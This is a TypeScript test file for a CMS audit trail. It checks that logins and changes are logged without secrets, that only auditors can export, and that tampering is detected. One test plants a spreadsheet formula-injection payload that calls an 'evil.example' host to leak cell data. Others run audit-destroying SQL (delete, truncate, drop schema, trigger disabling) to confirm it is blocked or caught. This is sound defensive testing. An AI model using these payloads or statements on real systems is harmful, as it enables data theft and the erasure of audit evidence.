import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { anchorsIn, anchorTrail, verifyTrail } from '@mingtang/audit/trail';
import type { Payload } from 'payload';
import pg from 'pg';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { bootInside } from './boot-inside.ts';

let inside: Awaited<ReturnType<typeof bootInside>>;
let payload: Payload;
let db: pg.Client;

beforeAll(async () => {
  inside = await bootInside();
  payload = inside.payload;
  db = new pg.Client({ connectionString: process.env.DATABASE_URL });
  await db.connect();
});
afterAll(async () => {
  await db?.end();
  await inside?.payload.destroy();
});

const password = 'a password for this test';
let made = 0;
async function person(globalRoles: string[] = []) {
  made += 1;
  const email = `p${made}@example.gov.cn`;
  await payload.create({
    collection: 'users',
    data: { name: `人员${made}`, email, password, globalRoles } as never,
  });
  return { email, ...(await inside.signIn(email, password)) };
}

interface Row {
  actor: string;
  act: string;
  outcome: string;
  details: string | null;
  before: Buffer | null;
  after: Buffer | null;
}
const entriesOf = async (subject: string) =>
  (
    await db.query<Row>('select * from audit.entry where subject = $1 order by entry.seq', [
      subject,
    ])
  ).rows;

/** An entry that somebody changed, removed or cut off, past what keeps others from it. */
async function tampered(statement: string, work: () => Promise<void>) {
  await db.query('begin');
  try {
    await db.query('alter table audit.entry disable trigger user');
    await db.query(statement);
    await work();
  } finally {
    await db.query('rollback');
  }
}

test('who signs in, and who fails to, is written down, and nothing that was typed', async () => {
  const clerk = await person();
  const login = (email: string, wrong: string) =>
    inside.ask('POST', '/users/login', { body: { email, password: wrong } });
  expect((await login(clerk.email, 'not this one 12')).status).toBe(401);
  expect((await login('stranger@example.com', 'not this one 34')).status).toBe(401);
  const acts = (await entriesOf(`users:${clerk.id}`)).map(({ act, actor, outcome }) => [
    act,
    actor,
    outcome,
  ]);
  expect(acts).toEqual([
    ['create', 'system', 'done'],
    ['sign-in', `person:${clerk.id}`, 'done'],
    ['sign-in', 'nobody', 'refused'],
  ]);
  const { rows } = await db.query('select entry::text as whole from audit.entry');
  const written = JSON.stringify(rows);
  expect(rows.length).toBeGreaterThan(3);
  for (const typed of ['stranger@example.com', 'not this one', clerk.email]) {
    expect(written).not.toContain(typed);
  }
});

test('a change is written down with who made it and which fields, in its transaction', async () => {
  const admin = await person(['system-admin']);
  const { body } = await inside.ask('POST', '/users', {
    as: admin,
    body: { name: '新来的', email: 'new@example.gov.cn', password },
  });
  const id = body.doc.id;
  await inside.ask('PATCH', `/users/${id}`, { as: admin, body: { unit: '办公室' } });
  const [created, changed] = await entriesOf(`users:${id}`);
  expect(created).toMatchObject({ act: 'create', actor: `person:${admin.id}`, before: null });
  expect(changed).toMatchObject({ act: 'update', actor: `person:${admin.id}` });
  expect(JSON.parse(changed?.details ?? '')).toEqual({ fields: ['unit'] });
  expect(changed?.before?.equals(changed.after ?? Buffer.of())).toBe(false);

  const count = async () => (await db.query('select from audit.entry')).rowCount;
  const before = await count();
  const twice = { name: '同一邮箱', email: 'new@example.gov.cn', password };
  const refused = await inside.ask('POST', '/users', { as: admin, body: twice });
  expect(refused.status).toBe(400);
  expect(await count()).toBe(before);
});

test('what somebody tried and may not is written down though nothing came of it', async () => {
  const clerk = await person();
  const refused = await inside.ask('POST', '/users', {
    as: clerk,
    body: { name: '不该有', email: 'none@example.gov.cn', password },
  });
  expect(refused.status).toBe(403);
  const { rows } = await db.query('select * from audit.entry where actor = $1 and act = $2', [
    `person:${clerk.id}`,
    'try',
  ]);
  expect(rows).toMatchObject([{ outcome: 'refused' }]);
  expect(JSON.parse(rows[0].details)).toEqual({ method: 'POST', path: '/api/users' });
});

test('auditors read, narrow and export the trail; nobody else does, whatever they administer', async () => {
  const auditor = await person(['auditor']);
  const answer = await inside.fetch('GET', '/audit/entries.csv?act=sign-in&outcome=refused', {
    as: auditor,
  });
  expect(answer.status).toBe(200);
  const lines = (await answer.text()).trim().split('\r\n');
  expect(lines.length).toBeGreaterThan(2);
  expect(lines.slice(1).every((line) => line.includes('被拒绝'))).toBe(true);
  for (const role of [[], ['system-admin'], ['security-admin']]) {
    const other = await person(role);
    expect((await inside.ask('GET', '/audit/entries.csv', { as: other })).status).toBe(403);
    expect((await inside.ask('POST', '/audit/verify', { as: other })).status).toBe(403);
  }
  const verified = await inside.ask('POST', '/audit/verify', { as: auditor });
  expect(verified.body).toEqual({ entries: expect.any(Number), anchors: 0 });
  expect(verified.body.entries).toBeGreaterThan(10);
});

test('an export is text: nothing in it is taken for a formula', async () => {
  const auditor = await person(['auditor']);
  const { id } = await person();
  const evil = '=HYPERLINK("http://evil.example/"&A1)';
  await payload.update({ collection: 'users', id, data: { name: evil } });
  await inside.ask('POST', '/users', {
    as: await inside.signIn(`p${made}@example.gov.cn`, password),
  });
  const answer = await inside.fetch('GET', '/audit/entries.csv', { as: auditor });
  const text = await answer.text();
  expect(text).toContain(`"'=HYPERLINK(""http://evil.example/""&A1)"`);
  expect(text).not.toMatch(/(?:^|[,\n])"?[=+\-@＝]/m);
});

test('many acts at once stand in one chain, each once, without a gap', async () => {
  const users = await Promise.all(Array.from({ length: 20 }, () => person()));
  const { rows } = await db.query<{ seq: string }>(
    'select seq::text from audit.entry order by entry.seq',
  );
  expect(rows.map(({ seq }) => Number(seq))).toEqual(rows.map((_, n) => n + 1));
  for (const { id } of users) expect((await entriesOf(`users:${id}`)).length).toBe(2);
  expect((await verifyTrail(db)).fault).toBeUndefined();
});

test('the role of the inside adds to the trail, and cannot change, remove or empty it', async () => {
  const { grantInside } = await import('../../cms/src/grant-inside.ts');
  await grantInside(process.env.DATABASE_URL ?? '', { insidePassword: 'inside' });
  const url = new URL(process.env.DATABASE_URL ?? '');
  Object.assign(url, { username: 'mingtang_inside', password: 'inside' });
  const role = new pg.Client({ connectionString: url.href });
  await role.connect();
  try {
    const appended = `select audit.append('system', null, null, 'update', 'users:x', null, null, 'done', null, null, null, null)`;
    await role.query(appended);
    for (const statement of [
      `update audit.entry set actor = 'system'`,
      'delete from audit.entry',
      'truncate audit.entry',
      'update audit.head set seq = 0',
      `insert into audit.entry (at, actor, act, outcome) values (now(), 'system', 'update', 'done')`,
      'alter table audit.entry disable trigger all',
      'drop schema audit cascade',
      `create or replace function audit.link() returns trigger language plpgsql as 'begin return null; end'`,
      `set session_replication_role = replica`,
    ]) {
      await expect(role.query(statement), statement).rejects.toThrow(
        /permission denied|must be owner/,
      );
    }
    await role.query(`update users set unit = '可以改' where false`);
  } finally {
    await role.end();
  }
  expect((await verifyTrail(db)).fault).toBeUndefined();
});

test('whoever owns the database and changes an entry is found out, by its number', async () => {
  const changed = `update audit.entry set actor = 'system' where seq = 3`;
  await tampered(changed, async () => {
    expect((await verifyTrail(db)).fault).toEqual({ seq: '3', what: 'changed' });
  });
  await tampered('delete from audit.entry where seq = 4', async () => {
    expect((await verifyTrail(db)).fault).toEqual({ seq: '5', what: 'out-of-place' });
  });
  await expect(db.query(changed)).rejects.toThrow('append-only');
  await expect(db.query('delete from audit.entry')).rejects.toThrow('append-only');
  await expect(db.query('truncate audit.entry')).rejects.toThrow('append-only');
});

test('a trail whose end was cut off, head and all, is told by an anchor outside the database', async () => {
  const dataDir = await mkdtemp(path.join(tmpdir(), 'mingtang-anchors-'));
  const secret = 'a secret that jobs alone are told, of enough characters';
  const settings = { dataDir, secret, now: new Date('2026-11-28T01:00:00Z') };
  const anchor = await anchorTrail(db, settings);
  expect(await anchorTrail(db, settings)).toBeUndefined();
  const anchors = await anchorsIn(dataDir);
  expect(anchors).toEqual([anchor]);
  expect((await verifyTrail(db, { anchors, secret })).fault).toBeUndefined();

  const cut = `delete from audit.entry where seq > 5;
    update audit.head set seq = 5, hash = (select hash from audit.entry where seq = 5)`;
  await tampered(cut, async () => {
    expect((await verifyTrail(db)).fault).toBeUndefined();
    expect((await verifyTrail(db, { anchors, secret })).fault).toEqual({
      seq: anchor?.seq,
      what: 'cut-off',
    });
  });
  const forged = anchors.map((one) => ({ ...one, hash: one.hash.replace(/^./, '0'), seq: '1' }));
  expect((await verifyTrail(db, { anchors: forged })).fault?.what).toBe('not-as-anchored');
  const otherKey = await verifyTrail(db, { anchors, secret: `${secret}!` });
  expect(otherKey.fault?.what).toBe('anchor-forged');
  await rm(dataDir, { recursive: true });
});
